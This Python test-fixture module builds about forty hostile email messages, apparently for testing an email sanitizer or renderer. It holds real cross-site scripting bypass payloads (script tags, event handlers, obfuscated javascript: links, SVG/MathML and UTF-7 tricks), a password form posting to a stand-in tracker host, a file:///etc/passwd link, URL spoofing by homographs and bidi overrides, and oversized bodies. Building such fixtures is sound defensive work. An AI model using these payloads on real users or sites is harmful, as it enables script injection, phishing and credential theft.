"""Hostile mails, by the attack they try.

Every script in them would set `window.attacked`, and everything they would load is on a host below `tracker.example`.
Each has SENTENCE somewhere for people to read.
"""

from __future__ import annotations

import base64

SENTENCE = "Shall we have lunch at noon?"
SECRET = "window.attacked"
"""In every script, and nowhere else: it may be seen only where a mail's text shows it."""
TRACKER = "tracker.example"
_SCRIPT = f"{SECRET} = true"
_FROM = b"From: Mallory <mallory@attacker.example>\n"


def html(markup: str, subject: str = "lunch", charset: str = "utf-8") -> bytes:
    """A mail with this HTML."""
    head = f"Subject: {subject}\nMIME-Version: 1.0\nContent-Type: text/html; charset={charset}\n\n"
    return _FROM + head.encode() + markup.encode("utf-8", "surrogatepass")


def plain(text: str, subject: str = "lunch") -> bytes:
    """A mail with this text."""
    return _FROM + f"Subject: {subject}\nContent-Type: text/plain\n\n{text}".encode()


def _tags(*tags: str) -> bytes:
    return html(f"<p>{SENTENCE}</p>" + "".join(tags))


ATTACKS: dict[str, bytes] = {
    "script tags": _tags(
        f"<script>{_SCRIPT}</script>",
        f"<SCRIPT SRC=https://{TRACKER}/a.js></SCRIPT>",
        f"<scr<script>ipt>{_SCRIPT}</script>",
        f"<script/x>{_SCRIPT}</script\t>",
    ),
    "script in plain text": plain(f"{SENTENCE} <script>{_SCRIPT}</script><img src=x onerror='{_SCRIPT}'>"),
    "script in undeclared text": f"Subject: lunch\n\n{SENTENCE} <script>{_SCRIPT}</script><b onclick=x>".encode(),
    "script in the subject": plain(SENTENCE, f"<script>{_SCRIPT}</script><img src=x onerror={_SCRIPT}>"),
    "script in the sender": f'From: "<script>{_SCRIPT}</script>" <a@b.example>\nSubject: lunch\n\n{SENTENCE}'.encode(),
    "event handlers": _tags(
        f'<img src=x onerror="{_SCRIPT}">',
        f"<body onload='{_SCRIPT}'><div onmouseover={_SCRIPT.replace(' ', '')}>over</div>",
        f'<details open ontoggle="{_SCRIPT}"><summary>more</summary></details><input autofocus onfocus="{_SCRIPT}">',
    ),
    "broken out of an attribute": _tags(
        f'<a title=\'"><img src=x onerror="{_SCRIPT}">\' href="https://a.example">a</a>'
    ),
    "javascript links": _tags(
        f'<a href="javascript:{_SCRIPT}">one</a> ',
        f'<a href=" java&#10;script:{_SCRIPT}">two</a> ',
        f'<a href="&#x6A;avascript&colon;{_SCRIPT}">three</a> ',
        f'<a href="\x01javascript:{_SCRIPT}">four</a> ',
        f'<a href="vbscript:{_SCRIPT}">five</a> ',
        f'<a href="data:text/html,<script>{_SCRIPT}</script>">six</a> ',
        '<a href="file:///etc/passwd">seven</a>',
    ),
    "javascript in plain text": plain(f"{SENTENCE} javascript:alert(1) data:text/html,x"),
    "style injection": _tags(
        f"<style>body {{ display: none }} @import url(https://{TRACKER}/a.css);</style>",
        f"<link rel=stylesheet href=https://{TRACKER}/b.css>",
        "<div style='position:fixed;inset:0;z-index:9999'>everything covered</div></div></div></main></body></html>",
    ),
    "css url": _tags(
        f"<div style=\"background:url('https://{TRACKER}/c.png')\">a</div>",
        f"<table background=https://{TRACKER}/d.png><td>b</table>",
    ),
    "remote images": _tags(
        f"<img src=https://{TRACKER}/e.png><img srcset='https://{TRACKER}/f.png 2x' alt=srcset>",
        f"<picture><source srcset=https://{TRACKER}/g.png></picture><video poster=https://{TRACKER}/h.png></video>",
        f"<link rel=prefetch href=https://{TRACKER}/i><link rel=dns-prefetch href=//j.{TRACKER}>",
    ),
    "frames": _tags(
        f"<iframe src='https://{TRACKER}/k'></iframe><iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
        f"<object data='https://{TRACKER}/l'></object><embed src='https://{TRACKER}/m'>",
    ),
    "svg and mathml": _tags(
        f"<svg onload='{_SCRIPT}'><script>{_SCRIPT}</script><a xlink:href='javascript:{_SCRIPT}'><text>svg</text></a>",
        f"<animate attributeName=href values='javascript:{_SCRIPT}'/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror='{_SCRIPT}'></style></mglyph></table></mtext></math>",
        f"<math href='javascript:{_SCRIPT}'>click</math>",
    ),
    "meta refresh": html(f"<meta http-equiv=refresh content='0;url=https://{TRACKER}/n'><p>{SENTENCE}"),
    "base": html(f"<base href='https://base.{TRACKER}/'><p>{SENTENCE} <a href='login'>Log in</a>"),
    "form": _tags(
        f"<form action='https://{TRACKER}/o' method=post><input name=password type=password placeholder=Password>",
        f"<button formaction='javascript:{_SCRIPT}'>Continue</button></form>",
    ),
    "unclosed comment": html(f"<!-- hides what follows <p>{SENTENCE}"),
    "unclosed script": html(f"<p>{SENTENCE}<script>{_SCRIPT}"),
    "unclosed everything": html(f"<title><style><p>{SENTENCE}<a href='https://a.example/><b class=\"x"),
    "userinfo": plain(
        f"{SENTENCE} http://real.example@evil.example/ https://real.example:443%40@evil.example:8443/a "
        "http://real.example\\@evil.example/"
    ),
    "homograph": _tags(
        "<a href='https://\u0430\u0440\u0440\u04cf\u0435.com/'>https://apple.com/</a> https://p\u0430ypal.com/signin"
    ),
    "numbers for hosts": plain(f"{SENTENCE} http://3232235777/ http://0xC0.0xA8.1.1/ http://[::ffff:1.2.3.4]/"),
    "lying link": _tags("<a href='https://evil.example/login'>https://bank.example/login</a>"),
    "bidi override in the subject": plain(SENTENCE, "invoice\u202egpj.exe"),
    "bidi override in the body": plain(
        f"{SENTENCE}\nfile\u202egpj.exe\u202c \u2066isolate\u2069 https://evil.example/\u202emoc.knab"
    ),
    "bidi override by reference": _tags("<p>user&#x202E;cod.exe &rlm; <a href='https://a.example'>a&#8238;b</a>"),
    "zero width": plain(f"{SENTENCE} F\u200bR\u200bE\u200bE v\u00adi\u2060a\ufeffgra \U000e0049\U000e0067\U000e006e"),
    "zalgo": plain(f"{SENTENCE} z\u0351\u036b\u0343\u036a" + "\u0301\u0316" * 5000 + "algo"),
    "nul bytes": plain(
        f"{SENTENCE}\x00\x00\x00 a\x00b\x1b[2J\x07\x08 <scr\x00ipt>{_SCRIPT}", "nul\x00 subject\x1b]0;x\x07"
    ),
    "broken charset": _FROM
    + b"Subject: =?utf-8?q?=ff=fe_lunch?=\nContent-Type: text/plain; charset=utf-8\n\n"
    + SENTENCE.encode()
    + b" caf\xe9 \xff\xfe\xc0\xaf\xed\xa0\x80",
    "no such charset": html(f"<p>{SENTENCE}", charset='"x\\"><script>'),
    "utf-7": _FROM
    + b"Subject: lunch\nContent-Type: text/html; charset=utf-7\n\n<p>"
    + SENTENCE.encode()
    + b" +ADw-script+AD4-window.attacked = true+ADw-/script+AD4-",
    "template of the page": plain(
        f"{SENTENCE} {{{{constructor.constructor('{_SCRIPT}')()}}}} ${{{_SCRIPT}}} </textarea></script>"
    ),
    "attached script": _FROM
    + b"Subject: lunch\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\n"
    + SENTENCE.encode()
    + b'\n--x\nContent-Type: text/html\nContent-Disposition: attachment; filename="<img onerror=a>\xe2\x80\xaefdp"'
    + f"\n\n<script>{_SCRIPT}</script>\n--x--\n".encode(),
    "5 MB of text": plain(f"{SENTENCE}\n" + "all work and no play\n" * 250_000),
    "5 MB without a space": plain(f"{SENTENCE}\n" + "A" * 5_000_000),
    "5 MB of tags": html(f"<p>{SENTENCE}" + "<div>" * 1_000_000),
    "5 MB in base64": _FROM
    + b"Subject: lunch\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"
    + base64.encodebytes(f"<p>{SENTENCE}".encode() + b"<b>more</b>" * 340_000),
}
"""The mails; all but the last four are small."""
